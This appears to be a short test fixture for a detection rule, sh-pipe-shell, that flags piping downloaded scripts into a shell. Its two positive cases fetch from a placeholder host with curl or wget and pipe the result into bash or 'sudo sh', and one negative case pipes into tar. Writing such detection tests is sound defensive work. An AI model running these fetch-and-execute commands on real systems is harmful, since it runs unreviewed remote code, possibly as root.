# ruleid: sh-pipe-shell
curl -s https://example.invalid/a.sh | bash

# ruleid: sh-pipe-shell
wget -qO- https://example.invalid/b | sudo sh -s

# ok: sh-pipe-shell
curl -s https://example.invalid/c | tar xz
